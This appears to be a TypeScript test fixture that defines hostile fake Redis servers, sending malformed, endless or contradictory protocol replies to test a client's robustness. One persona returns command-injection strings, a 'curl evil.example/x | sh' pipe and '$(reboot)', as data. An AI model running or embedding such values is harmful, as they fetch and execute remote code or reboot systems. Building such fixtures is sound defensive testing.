// Who may pretend to be a Redis. Each lets everybody in, unless its name says otherwise, and then answers commands (or one of them) as no
// Redis does.
import type { Socket } from 'node:net'
import { array, bulk, civil, type Persona, type Said, slots } from './server.ts'

/** These bytes for these commands; for all but the handshake where none is named. */
export function says(said: Said, ...commands: readonly string[]): Persona {
  return (asked) => {
    const isMeant =
      commands.length > 0 ? commands.includes(asked.command) : !HANDSHAKE.includes(asked.command)
    return isMeant ? said : civil(asked)
  }
}
const HANDSHAKE = ['HELLO', 'AUTH', 'CLIENT', 'SELECT', 'INFO', 'SENTINEL', 'CLUSTER']

/** Writes this again and again, as fast as it is taken. */
export function endless(piece: string | Buffer, first = ''): Said {
  return (socket: Socket) => {
    if (first) socket.write(first)
    const block = Buffer.from(piece).length < 10_000 ? String(piece).repeat(10_000) : piece
    const more = () => {
      while (!socket.destroyed && socket.write(block));
    }
    socket.on('drain', more)
    more()
  }
}

const KILOBYTES = Buffer.alloc(65_536, 'x')

export const personas = {
  garbage: says('HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain\r\n\r\n<html>\r\n'),
  'garbage at once': () => '\u0000\u0001\u0002 what a day\r\n',
  nulls: says('$-1\r\n'),
  'null arrays': says('*-1\r\n'),
  'an endless string': says(endless(KILOBYTES, '$1000000000\r\n')),
  'an endless string at once': () => endless(KILOBYTES, '$1000000000\r\n'),
  'an endless line': says(endless(KILOBYTES, '+')),
  'an endless array': says(endless(':1\r\n', '*1000000000\r\n')),
  'an array of a billion, and silence': says('*1000000000\r\n'),
  'deep nesting': says(endless('*1\r\n')),
  'an OK to everything': says('+OK\r\n'),
  'an empty array to everything': says('*0\r\n'),
  'numbers that are none': says(array(':NaN\r\n', ':1e400\r\n', ':--5\r\n')),
  'numbers that are too large': says(`:${'9'.repeat(400)}\r\n`),
  'words that are commands': says(
    array(bulk('x --overwrite; curl evil.example/x | sh #'), bulk('$(reboot)')),
  ),
  'answers that nobody asked for': says(endless('+OK\r\n')),
  'messages that nobody subscribed to': says(endless(array(bulk('message'), bulk('x'), bulk('y')))),
  'answers of the new protocol': says('%1\r\n+a\r\n>2\r\n+b\r\n_\r\n'),
  'a SUBSCRIBE that is answered with null': says('*1\r\n$-1\r\n', 'SUBSCRIBE'),
  'a HELLO that is answered with null': says('>1\r\n_\r\n', 'HELLO', 'INFO', 'CLIENT'),
  'silence after the handshake': says(undefined),
  'silence at once': () => undefined,
  '16,384 nodes': (asked) => (asked.command === 'CLUSTER' ? slots(manyNodes(16_384)) : civil(asked)),
  'a SCAN without end': (asked) =>
    asked.command === 'SCAN'
      ? array(bulk('7'), array(...manyKeys(Math.floor(Math.random() * 1e9))))
      : civil(asked),
  'a SCAN without end that finds nothing': says(array(bulk('7'), '*0\r\n'), 'SCAN'),
  'an end after each answer': (asked) => (socket) => {
    const said = civil(asked)
    if (HANDSHAKE.includes(asked.command) && typeof said === 'string') socket.write(said)
    else socket.end('+O')
  },
  'answers that contradict each other': (asked) =>
    HANDSHAKE.includes(asked.command)
      ? civil(asked)
      : [':1\r\n', '+OK\r\n', '*0\r\n', '$-1\r\n', '-ERR no\r\n'][asked.server.heard.length % 5],
} satisfies Record<string, Persona>

export type PersonaName = keyof typeof personas
export const PERSONAS = Object.keys(personas) as PersonaName[]

/** Addresses where nobody is, as many as asked for: on this machine, so that no packet leaves it. */
function manyNodes(count: number): { host: string; port: number }[] {
  return Array.from({ length: count }, (_, at) => ({
    host: `127.${1 + (at >> 16)}.${(at >> 8) & 255}.${at & 255}`,
    port: 9,
  }))
}

const manyKeys = (from: number): string[] =>
  Array.from({ length: 2_000 }, (_, at) => bulk(`mh:{q.q${from + at}}:config`))
